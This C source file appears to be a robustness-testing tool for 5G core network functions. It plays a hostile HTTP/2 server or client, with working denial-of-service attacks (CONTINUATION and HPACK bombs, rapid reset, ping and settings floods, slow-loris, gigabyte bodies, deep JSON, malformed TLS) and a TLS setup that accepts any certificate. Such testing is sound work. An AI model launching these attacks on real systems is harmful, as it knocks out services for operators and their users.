/*
 * What is at the producer's address and is no network function, or a broken one, and what comes to
 * the tester's NFs and is no consumer. One way for each word of a table.
 *
 *   hostile_nf server WAY IP PORT [CERT KEY]
 *   hostile_nf client WAY PORT NRF-IP IP... [CERT KEY]
 *   hostile_nf measure FILE COMMAND...
 *   hostile_nf certificates
 *
 * With a certificate, TLS; "none none" is a client that has none. The third runs a command, and
 * writes the most memory (KiB) to the file that it or a process of it had at a time. The last makes
 * certificates of all kinds and says where.
 */
#include <netinet/in.h>
#include <nghttp2/nghttp2.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "runner/net/test_certificates.h"
#include "suites/live/hostile_http.h"

#define GIB (1ULL << 30)
#define DISCOVERY                                                             \
	"/nnrf-disc/v1/nf-instances?target-nf-type=SMF&requester-nf-type=AMF" \
	"&service-names=nsmf-pdusession"
#define CONTEXTS "/nsmf-pdusession/v1/sm-contexts"

enum {
	FLOOD = 20000,
	PACE_MS = 100,
	SELDOM_MS = 1500,
	JSON_MAX = 1 << 20,
	CONNECTIONS = 400,
	BURST = 200
};

struct way {
	const char *name;
	/* A server's: instead of HTTP/2; after SETTINGS; for each request. */
	void (*met)(struct wire *wire);
	void (*begun)(struct wire *wire);
	void (*asked)(struct wire *wire, uint32_t stream, const char *method);
	/* A client's: on a connection that is up (and has begun, unless it is raw). */
	void (*attack)(struct wire *wire);
	bool raw;
	bool discovers; /* as a consumer has to, before it attacks the producers */
	/* Of the TLS alone. */
	bool clear, no_alpn, stall;
	int version;
};

static const struct way *way;
static SSL_CTX *tls;

/* --- octets ------------------------------------------------------------------------------------
 */

static void mute(struct wire *wire)
{
	wire_drain(wire);
}

static void leave(struct wire *wire)
{
	(void)wire;
}

static void garbage(struct wire *wire)
{
	uint8_t octets[FRAME_MAX];

	for (size_t i = 0; i < sizeof(octets); i++)
		octets[i] = (uint8_t)(i * 2654435761U >> 11);
	for (int i = 0; i < 64 && wire_send(wire, octets, sizeof(octets)); i++)
		;
	wire_drain(wire);
}

static void http1(struct wire *wire)
{
	static const char said[] = "HTTP/1.1 400 Bad Request\r\ncontent-length: 0\r\n\r\n";

	wire_send(wire, said, sizeof(said) - 1);
	wire_drain(wire);
}

static void drip(struct wire *wire, const void *data, size_t len)
{
	for (size_t i = 0; i < len && wire_send(wire, (const uint8_t *)data + i, 1); i++)
		pause_ms(PACE_MS);
}

static void drip_preface(struct wire *wire)
{
	drip(wire, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
	wire_drain(wire);
}

/* --- frames ------------------------------------------------------------------------------------
 */

static void pings(struct wire *wire)
{
	for (int i = 0; i < FLOOD && wire_frame(wire, FRAME_PING, 0, 0, "12345678", 8); i++)
		;
	wire_drain(wire);
}

static void settings(struct wire *wire)
{
	for (int i = 0; i < FLOOD && wire_frame(wire, FRAME_SETTINGS, 0, 0, "\0\3\0\0\0\144", 6);
	     i++)
		;
	wire_drain(wire);
}

static void unknown_frames(struct wire *wire)
{
	for (int i = 0; i < FLOOD && wire_frame(wire, FRAME_UNKNOWN, 0, 0, "1234567890", 10); i++)
		;
	wire_drain(wire);
}

static void window_overflow(struct wire *wire)
{
	for (int i = 0; i < 2; i++)
		wire_number(wire, FRAME_WINDOW_UPDATE, 0, 0x7fffffff);
	wire_drain(wire);
}

static void goaway(struct wire *wire)
{
	wire_frame(wire, FRAME_GOAWAY, 0, 0, "\0\0\0\0\0\0\0\0", 8);
}

static void goaways(struct wire *wire)
{
	for (int i = 0; i < FLOOD && !wire->broken; i++)
		goaway(wire);
	wire_drain(wire);
}

/* --- header lists ------------------------------------------------------------------------------
 */

/* The first fields of a message, of a request or of an answer. */
static struct block first_fields(const struct wire *wire)
{
	struct block block = { .len = 0 };

	if (wire->server)
		block_status(&block, "200");
	else
		block_request(&block, wire, "GET", CONTEXTS);
	return block;
}

static uint32_t stream_for(struct wire *wire, uint32_t stream)
{
	if (!wire->server) {
		stream = wire->next_stream;
		wire->next_stream += 2;
	}
	return stream;
}

static void continuation(struct wire *wire, uint32_t stream)
{
	struct block block = first_fields(wire);

	stream = stream_for(wire, stream);
	wire_block(wire, FRAME_HEADERS, 0, stream, &block);
	for (int i = 0; i < 10 * FLOOD && !wire->broken; i++) {
		block.len = 0;
		block_field(&block, "x", "1");
		wire_block(wire, FRAME_CONTINUATION, 0, stream, &block);
	}
	wire_drain(wire);
}

/* Frames that carry nothing, and so never reach a limit of octets. */
static void empty_continuation(struct wire *wire, uint32_t stream)
{
	struct block block = first_fields(wire);

	stream = stream_for(wire, stream);
	wire_block(wire, FRAME_HEADERS, 0, stream, &block);
	for (int i = 0; i < 10 * FLOOD && !wire->broken; i++)
		wire_frame(wire, FRAME_CONTINUATION, 0, stream, "", 0);
	wire_drain(wire);
}

/* One field of 3 KiB in the table, and then an octet for each time that it is there again. */
static void bomb(struct wire *wire, uint32_t stream)
{
	static char value[3000];
	struct block block = first_fields(wire);
	size_t at = block.len;

	stream = stream_for(wire, stream);
	memset(value, 'b', sizeof(value) - 1);
	block_field(&block, "x", value);
	block.data[at] |= 0x40; /* this one a table keeps */
	while (block.len < sizeof(block.data))
		block_put(&block, "\xbe", 1);
	for (int i = 0; i < 8 && !wire->broken; i++)
		wire_block(wire, i ? FRAME_CONTINUATION : FRAME_HEADERS, i == 7 ? END_HEADERS : 0,
			   stream, &block);
	wire_drain(wire);
}

/* A hundred thousand fields. */
static void many_fields(struct wire *wire, uint32_t stream)
{
	struct block block = first_fields(wire);

	stream = stream_for(wire, stream);
	for (int sent = 0, i = 0; sent < 100000 && !wire->broken; i++) {
		for (; block.len < sizeof(block.data) - 8; sent++)
			block_field(&block, "x", "1");
		wire_block(wire, i ? FRAME_CONTINUATION : FRAME_HEADERS, 0, stream, &block);
		block.len = 0;
	}
	wire_frame(wire, FRAME_CONTINUATION, END_HEADERS, stream, "", 0);
	wire_drain(wire);
}

static void ask_continuation(struct wire *wire)
{
	continuation(wire, 0);
}

static void ask_empty_continuation(struct wire *wire)
{
	empty_continuation(wire, 0);
}

static void ask_bomb(struct wire *wire)
{
	bomb(wire, 0);
}

static void ask_many_fields(struct wire *wire)
{
	many_fields(wire, 0);
}

static void answer_continuation(struct wire *wire, uint32_t stream, const char *method)
{
	(void)method;
	continuation(wire, stream);
}

static void answer_empty_continuation(struct wire *wire, uint32_t stream, const char *method)
{
	(void)method;
	empty_continuation(wire, stream);
}

static void answer_bomb(struct wire *wire, uint32_t stream, const char *method)
{
	(void)method;
	bomb(wire, stream);
}

static void answer_many_fields(struct wire *wire, uint32_t stream, const char *method)
{
	(void)method;
	many_fields(wire, stream);
}

/* --- a server's answers ------------------------------------------------------------------------
 */

static void put_head(struct wire *wire, uint32_t stream, const char *status, unsigned int flags,
		     const char *name, const char *value)
{
	struct block block = { .len = 0 };

	block_status(&block, status);
	if (name)
		block_field(&block, name, value);
	wire_block(wire, FRAME_HEADERS, flags, stream, &block);
}

static const char *status_of(const char *method)
{
	return strcmp(method, "POST") == 0 || strcmp(method, "PUT") == 0 ? "201" : "200";
}

static void polite(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS | END_STREAM, NULL, NULL);
}

static void silent(struct wire *wire, uint32_t stream, const char *method)
{
	(void)wire;
	(void)stream;
	(void)method;
}

static void reset(struct wire *wire, uint32_t stream, const char *method)
{
	(void)method;
	wire_number(wire, FRAME_RST_STREAM, stream, 2);
}

/* An error that says it may be tried again at once. */
static void refuse(struct wire *wire, uint32_t stream, const char *method)
{
	(void)method;
	wire_number(wire, FRAME_RST_STREAM, stream, 7);
}

static void go_away(struct wire *wire, uint32_t stream, const char *method)
{
	(void)stream;
	(void)method;
	goaway(wire);
	wire->broken = true;
}

static void half_head(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), 0, NULL, NULL);
}

static void half_body(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS, "content-length", "100");
	wire_frame(wire, FRAME_DATA, 0, stream, "0123456789", 10);
}

static void wrong_length(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS, "content-length", "5");
	wire_frame(wire, FRAME_DATA, END_STREAM, stream, "0123456789", 10);
}

static void slowly(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS, NULL, NULL);
	while (wire_frame(wire, FRAME_DATA, 0, stream, "x", 1))
		pause_ms(PACE_MS);
}

static void empty_data(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS, NULL, NULL);
	for (int i = 0; i < 10 * FLOOD && wire_frame(wire, FRAME_DATA, 0, stream, "", 0); i++)
		;
	wire_drain(wire);
}

/* Interim answers, and never the one. */
static void interim(struct wire *wire, uint32_t stream, const char *method)
{
	(void)method;
	for (int i = 0; i < FLOOD && !wire->broken; i++)
		put_head(wire, stream, "103", END_HEADERS, "link", "x");
	wire_drain(wire);
}

static void push(struct wire *wire, uint32_t stream, const char *method)
{
	struct block block = { .data = { 0, 0, 0, 2 }, .len = 4 };

	(void)method;
	block_request(&block, wire, "GET", "/pushed");
	wire_block(wire, FRAME_PUSH_PROMISE, END_HEADERS, stream, &block);
	wire_drain(wire);
}

static void large_body(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS, NULL, NULL);
	wire_body(wire, stream, GIB, true);
}

static void large_body_unasked(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS, NULL, NULL);
	wire_body(wire, stream, GIB, false);
	wire_drain(wire);
}

static void put_json(struct wire *wire, uint32_t stream, const char *method, const char *body,
		     size_t len)
{
	struct frame frame;

	put_head(wire, stream, status_of(method), END_HEADERS, "content-type", "application/json");
	for (size_t sent = 0; sent < len;) {
		size_t n = len - sent < FRAME_MAX ? len - sent : FRAME_MAX;

		while (wire->window < (int64_t)n || wire->stream_window < (int64_t)n)
			if (!wire_read(wire, &frame))
				return;
		if (!wire_frame(wire, FRAME_DATA, sent + n == len ? END_STREAM : 0, stream,
				body + sent, n))
			return;
		wire->window -= (int64_t)n;
		wire->stream_window -= (int64_t)n;
		sent += n;
	}
}

static void no_json(struct wire *wire, uint32_t stream, const char *method)
{
	static const char body[] = "{\"nfInstances\":[{\"nfInstanceId\":";

	put_json(wire, stream, method, body, sizeof(body) - 1);
}

static char *deep(void)
{
	static char body[JSON_MAX];

	memset(body, '[', sizeof(body));
	return body;
}

static void deep_json(struct wire *wire, uint32_t stream, const char *method)
{
	put_json(wire, stream, method, deep(), JSON_MAX);
}

#define OVERFLOW_DATE                                                                        \
	"Timestamp: \"Tue, 04 Feb 99999999999999999999 08:49:37 GMT\"; Period-of-Validity: " \
	"99999999999999999999999999s; Overload-Reduction-Metric: 50%; NF-Instance: "         \
	"54804518-4191-46b3-955c-ac631f953ed8"

static void late_date(struct wire *wire, uint32_t stream, const char *method)
{
	put_head(wire, stream, status_of(method), END_HEADERS | END_STREAM, "3gpp-sbi-oci",
		 OVERFLOW_DATE);
}

/* To the very place that was asked. */
static void redirect(struct wire *wire, uint32_t stream, const char *method)
{
	char location[200];

	(void)method;
	snprintf(location, sizeof(location), "http%s://%s" CONTEXTS "/1", wire->ssl ? "s" : "",
		 wire->host);
	put_head(wire, stream, "307", END_HEADERS | END_STREAM, "location", location);
}

/* --- a client's requests -----------------------------------------------------------------------
 */

static uint32_t request(struct wire *wire, const char *method, const char *path, bool whole)
{
	struct block block = { .len = 0 };
	uint32_t stream = stream_for(wire, 0);

	block_request(&block, wire, method, path);
	wire_block(wire, FRAME_HEADERS, END_HEADERS | (whole ? END_STREAM : 0U), stream, &block);
	return stream;
}

static void discover(struct wire *wire)
{
	struct frame frame;
	uint32_t stream = request(wire, "GET", DISCOVERY, true);

	while (wire_read(wire, &frame))
		if (frame.stream == stream && frame.flags & END_STREAM)
			break;
}

static void half_open(struct wire *wire)
{
	for (int i = 0; i < 200; i++)
		request(wire, "POST", CONTEXTS, false);
	wire_drain(wire);
}

/* Bursts without an end. */
static void rapid_reset(struct wire *wire)
{
	for (int i = 0; i < BURST && !wire->broken; i++)
		wire_number(wire, FRAME_RST_STREAM, request(wire, "POST", CONTEXTS, true), 8);
	pause_ms(PACE_MS);
}

static void flood_requests(struct wire *wire)
{
	for (int i = 0; i < BURST && !wire->broken; i++)
		request(wire, "POST", CONTEXTS, true);
	pause_ms(PACE_MS);
}

static void post_large_body(struct wire *wire)
{
	wire_body(wire, request(wire, "POST", CONTEXTS, false), GIB, true);
}

static void post_large_body_unasked(struct wire *wire)
{
	wire_body(wire, request(wire, "POST", CONTEXTS, false), GIB, false);
	wire_drain(wire);
}

static void put_profile(struct wire *wire, const char *body, size_t len)
{
	uint32_t stream =
		request(wire, "PUT",
			"/nnrf-nfm/v1/nf-instances/54804518-4191-46b3-955c-ac631f953ed8", false);

	for (size_t sent = 0; sent < len; sent += FRAME_MAX)
		wire_frame(wire, FRAME_DATA, sent + FRAME_MAX >= len ? END_STREAM : 0, stream,
			   body + sent, len - sent < FRAME_MAX ? len - sent : FRAME_MAX);
	pause_ms(SELDOM_MS);
}

static void register_no_json(struct wire *wire)
{
	static const char body[] = "{\"nfInstanceId\":\"";

	put_profile(wire, body, sizeof(body) - 1);
}

/* As deep as the first window allows. */
static void register_deep_json(struct wire *wire)
{
	put_profile(wire, deep(), 65535);
}

static void post_late_date(struct wire *wire)
{
	struct block block = { .len = 0 };

	block_request(&block, wire, "POST", CONTEXTS);
	block_field(&block, "3gpp-sbi-oci", OVERFLOW_DATE);
	wire_block(wire, FRAME_HEADERS, END_HEADERS | END_STREAM, stream_for(wire, 0), &block);
	pause_ms(SELDOM_MS);
}

static void stay(struct wire *wire)
{
	/* The thread has the next connection while this one is left open. */
	wire->fd = -1;
}

/* --- the ways ----------------------------------------------------------------------------------
 */

static const struct way server_ways[] = {
	{ .name = "mute", .met = mute },
	{ .name = "close", .met = leave },
	{ .name = "garbage", .met = garbage },
	{ .name = "http1", .met = http1 },
	{ .name = "goaways", .begun = goaways },
	{ .name = "pings", .begun = pings },
	{ .name = "settings", .begun = settings },
	{ .name = "unknown-frames", .begun = unknown_frames },
	{ .name = "window-overflow", .begun = window_overflow },
	{ .name = "silent", .asked = silent },
	{ .name = "polite", .asked = polite },
	{ .name = "reset", .asked = reset },
	{ .name = "refuse", .asked = refuse },
	{ .name = "go-away", .asked = go_away },
	{ .name = "half-head", .asked = half_head },
	{ .name = "half-body", .asked = half_body },
	{ .name = "wrong-length", .asked = wrong_length },
	{ .name = "slow-loris", .asked = slowly },
	{ .name = "empty-data", .asked = empty_data },
	{ .name = "interim", .asked = interim },
	{ .name = "push", .asked = push },
	{ .name = "continuation", .asked = answer_continuation },
	{ .name = "empty-continuation", .asked = answer_empty_continuation },
	{ .name = "bomb", .asked = answer_bomb },
	{ .name = "many-fields", .asked = answer_many_fields },
	{ .name = "large-body", .asked = large_body },
	{ .name = "large-body-unasked", .asked = large_body_unasked },
	{ .name = "no-json", .asked = no_json },
	{ .name = "deep-json", .asked = deep_json },
	{ .name = "late-date", .asked = late_date },
	{ .name = "redirect", .asked = redirect },
	{ .name = "tls-clear", .clear = true, .met = http1 },
	{ .name = "tls-stall", .stall = true, .met = leave },
	{ .name = "tls-old", .version = TLS1_1_VERSION, .asked = polite },
	{ .name = "tls-no-alpn", .no_alpn = true, .asked = polite },
};

static const struct way client_ways[] = {
	{ .name = "mute", .attack = mute, .raw = true },
	{ .name = "close", .attack = leave, .raw = true },
	{ .name = "garbage", .attack = garbage, .raw = true },
	{ .name = "slow-preface", .attack = drip_preface, .raw = true },
	{ .name = "many-connections", .attack = stay, .raw = true },
	{ .name = "goaways", .attack = goaways },
	{ .name = "pings", .attack = pings },
	{ .name = "settings", .attack = settings },
	{ .name = "unknown-frames", .attack = unknown_frames },
	{ .name = "window-overflow", .attack = window_overflow },
	{ .name = "continuation", .attack = ask_continuation },
	{ .name = "empty-continuation", .attack = ask_empty_continuation },
	{ .name = "bomb", .attack = ask_bomb },
	{ .name = "many-fields", .attack = ask_many_fields },
	{ .name = "register-no-json", .attack = register_no_json },
	{ .name = "register-deep-json", .attack = register_deep_json },
	{ .name = "discover-only", .attack = mute, .discovers = true },
	{ .name = "half-open", .attack = half_open, .discovers = true },
	{ .name = "rapid-reset", .attack = rapid_reset, .discovers = true },
	{ .name = "flood", .attack = flood_requests, .discovers = true },
	{ .name = "large-body", .attack = post_large_body, .discovers = true },
	{ .name = "large-body-unasked", .attack = post_large_body_unasked, .discovers = true },
	{ .name = "late-date", .attack = post_late_date, .discovers = true },
	{ .name = "tls-clear", .attack = mute, .clear = true },
	{ .name = "tls-stall", .attack = leave, .stall = true },
	{ .name = "tls-old", .attack = discover, .version = TLS1_1_VERSION },
	{ .name = "tls-no-alpn", .attack = discover, .no_alpn = true },
	{ .name = "tls-stranger", .attack = discover },
};

#define COUNT(array) (sizeof(array) / sizeof *(array))

static bool find_way(const struct way *ways, size_t count, const char *name)
{
	for (size_t i = 0; i < count; i++)
		if (strcmp(ways[i].name, name) == 0)
			way = &ways[i];
	return way != NULL;
}

/* --- connections -------------------------------------------------------------------------------
 */

static int choose(SSL *ssl, const unsigned char **out, unsigned char *out_len,
		  const unsigned char *in, unsigned int in_len, void *arg)
{
	(void)ssl;
	(void)in;
	(void)in_len;
	(void)arg;
	*out = (const unsigned char *)"h2";
	*out_len = 2;
	return SSL_TLSEXT_ERR_OK;
}

/* Takes any certificate of the other side. */
static bool make_tls(bool server, const char *cert, const char *key)
{
	tls = SSL_CTX_new(server ? TLS_server_method() : TLS_client_method());
	if (!tls)
		return false;
	if (way->version) {
		SSL_CTX_set_security_level(tls, 0);
		SSL_CTX_set_max_proto_version(tls, way->version);
	}
	if (!way->no_alpn && server)
		SSL_CTX_set_alpn_select_cb(tls, choose, NULL);
	if (!way->no_alpn && !server)
		SSL_CTX_set_alpn_protos(tls, (const unsigned char *)"\2h2", 3);
	return (strcmp(cert, "none") == 0 && !server) ||
	       (SSL_CTX_use_certificate_chain_file(tls, cert) == 1 &&
		SSL_CTX_use_PrivateKey_file(tls, key, SSL_FILETYPE_PEM) == 1);
}

/* False: there is no connection of TLS to speak on. */
static bool secure(struct wire *wire)
{
	if (!tls || way->clear)
		return true;
	if (way->stall) {
		/* the beginning of a record, and no more */
		wire_send(wire, "\x16\x03\x01\x02", 4);
		wire_drain(wire);
		return false;
	}
	wire->ssl = SSL_new(tls);
	if (!wire->ssl || SSL_set_fd(wire->ssl, wire->fd) != 1)
		return false;
	return (wire->server ? SSL_accept(wire->ssl) : SSL_connect(wire->ssl)) == 1;
}

static void end(struct wire *wire)
{
	SSL_free(wire->ssl);
	if (wire->fd >= 0)
		close(wire->fd);
}

/* ":method" of a request. Every header block has to be read, for the table that they share. */
static void read_method(nghttp2_hd_inflater *inflater, const struct frame *frame, char method[8])
{
	enum { PRIORITY = 0x20, PRIORITY_LEN = 5 };
	size_t at = frame->flags & PRIORITY ? PRIORITY_LEN : 0;
	nghttp2_nv field;
	int flags = 0;

	while (!(flags & NGHTTP2_HD_INFLATE_FINAL)) {
		ssize_t n = at <= frame->len
				    ? nghttp2_hd_inflate_hd2(inflater, &field, &flags,
							     frame->data + at, frame->len - at, 1)
				    : -1;

		if (n < 0)
			return;
		at += (size_t)n;
		if (flags & NGHTTP2_HD_INFLATE_EMIT && field.namelen == 7 &&
		    memcmp(field.name, ":method", 7) == 0)
			snprintf(method, 8, "%.*s", (int)field.valuelen, (const char *)field.value);
	}
	nghttp2_hd_inflate_end_headers(inflater);
}

static void serve(struct wire *wire)
{
	struct frame *frame = malloc(sizeof(*frame));
	nghttp2_hd_inflater *inflater;
	char method[8] = "";

	if (!frame || nghttp2_hd_inflate_new(&inflater) != 0) {
		free(frame);
		return;
	}
	wire_begin(wire);
	if (way->begun)
		way->begun(wire);
	while (!wire->broken && wire_read(wire, frame)) {
		if (frame->type == FRAME_HEADERS)
			read_method(inflater, frame, method);
		if ((frame->type == FRAME_HEADERS || frame->type == FRAME_DATA) &&
		    frame->flags & END_STREAM && way->asked)
			way->asked(wire, frame->stream, method);
	}
	nghttp2_hd_inflate_del(inflater);
	free(frame);
}

static void *serve_one(void *arg)
{
	struct wire *wire = arg;

	if (secure(wire)) {
		if (way->met)
			way->met(wire);
		else
			serve(wire);
	}
	end(wire);
	free(wire);
	return NULL;
}

static bool address_of(const char *ip, const char *port, struct sockaddr_in *address)
{
	*address = (struct sockaddr_in){ .sin_family = AF_INET,
					 .sin_port = htons((uint16_t)atoi(port)) };
	return inet_pton(AF_INET, ip, &address->sin_addr) == 1;
}

static void be_ready(void)
{
	puts("ready");
	fflush(stdout);
}

static int be_server(const char *ip, const char *port)
{
	static char host[64];
	struct sockaddr_in address;
	int on = 1, listener = socket(AF_INET, SOCK_STREAM, 0);

	if (!address_of(ip, port, &address))
		return 2;
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(listener, (struct sockaddr *)&address, sizeof(address)) || listen(listener, 64)) {
		perror("hostile_nf");
		return EXIT_FAILURE;
	}
	snprintf(host, sizeof(host), "%s:%s", ip, port);
	be_ready();
	for (;;) {
		struct wire *wire = calloc(1, sizeof(*wire));
		pthread_t thread;

		if (!wire)
			return EXIT_FAILURE;
		*wire = (struct wire){ .fd = accept(listener, NULL, NULL),
				       .server = true,
				       .host = host };
		if (wire->fd < 0 || pthread_create(&thread, NULL, serve_one, wire)) {
			end(wire);
			free(wire);
			continue;
		}
		pthread_detach(thread);
	}
}

struct target {
	const char *ip, *port;
	void (*attack)(struct wire *wire);
	char host[64];
};

/* Again and again, as long as there is somebody. */
static void *attack(void *arg)
{
	struct target *target = arg;
	struct sockaddr_in address;
	unsigned int kept = 0;

	if (!address_of(target->ip, target->port, &address))
		return NULL;
	snprintf(target->host, sizeof(target->host), "%s:%s", target->ip, target->port);
	for (;;) {
		struct wire wire = { .fd = socket(AF_INET, SOCK_STREAM, 0), .host = target->host };

		if (connect(wire.fd, (struct sockaddr *)&address, sizeof(address)) == 0 &&
		    secure(&wire)) {
			if (!way->raw)
				wire_begin(&wire);
			target->attack(&wire);
		}
		kept += wire.fd < 0;
		end(&wire);
		if (wire.fd >= 0 || kept % CONNECTIONS == 0)
			pause_ms(PACE_MS);
		if (kept == CONNECTIONS)
			break;
	}
	return NULL;
}

static int be_client(const char *port, char **ips, size_t count)
{
	struct target *targets = calloc(count, sizeof(*targets));
	pthread_t thread;

	for (size_t i = 0; targets && i < count; i++) {
		targets[i] = (struct target){ .ip = ips[i],
					      .port = port,
					      .attack = i == 0 && way->discovers ? discover
										 : way->attack };
		if (pthread_create(&thread, NULL, attack, &targets[i]))
			return EXIT_FAILURE;
	}
	be_ready();
	for (;;)
		pause();
}

static int measure(const char *path, char **command)
{
	struct rusage usage;
	pid_t child = fork();
	int status;
	FILE *file;

	if (child == 0) {
		signal(SIGPIPE, SIG_DFL);
		execvp(command[0], command);
		_exit(127);
	}
	if (child < 0 || wait4(child, &status, 0, &usage) != child)
		return EXIT_FAILURE;
	file = fopen(path, "w");
	if (!file || fprintf(file, "%ld\n", usage.ru_maxrss) < 0 || fclose(file))
		return EXIT_FAILURE;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

static void list(const struct way *ways, size_t count)
{
	for (size_t i = 0; i < count; i++)
		puts(ways[i].name);
}

int main(int argc, char **argv)
{
	bool server = argc > 1 && strcmp(argv[1], "server") == 0;
	bool client = argc > 1 && strcmp(argv[1], "client") == 0;

	signal(SIGPIPE, SIG_IGN);
	if (argc == 2 && strcmp(argv[1], "certificates") == 0) {
		const char *directory = test_certificates();

		return directory && puts(directory) >= 0 ? EXIT_SUCCESS : EXIT_FAILURE;
	}
	if (argc > 3 && strcmp(argv[1], "measure") == 0)
		return measure(argv[2], argv + 3);
	if (argc == 3 && strcmp(argv[2], "--list") == 0) {
		if (server)
			list(server_ways, COUNT(server_ways));
		if (client)
			list(client_ways, COUNT(client_ways));
		return EXIT_SUCCESS;
	}
	if (argc < 5 || !(server ? find_way(server_ways, COUNT(server_ways), argv[2])
				 : client && find_way(client_ways, COUNT(client_ways), argv[2]))) {
		fprintf(stderr, "usage: hostile_nf server|client WAY ...\n");
		return 2;
	}
	/* the last two are files, if the last one is no address */
	if (strchr(argv[argc - 1], '/') || strcmp(argv[argc - 1], "none") == 0) {
		if (!make_tls(server, argv[argc - 2], argv[argc - 1])) {
			fprintf(stderr, "hostile_nf: no TLS with %s\n", argv[argc - 2]);
			return EXIT_FAILURE;
		}
		argc -= 2;
	}
	return server ? be_server(argv[3], argv[4])
		      : be_client(argv[3], argv + 4, (size_t)argc - 4);
}
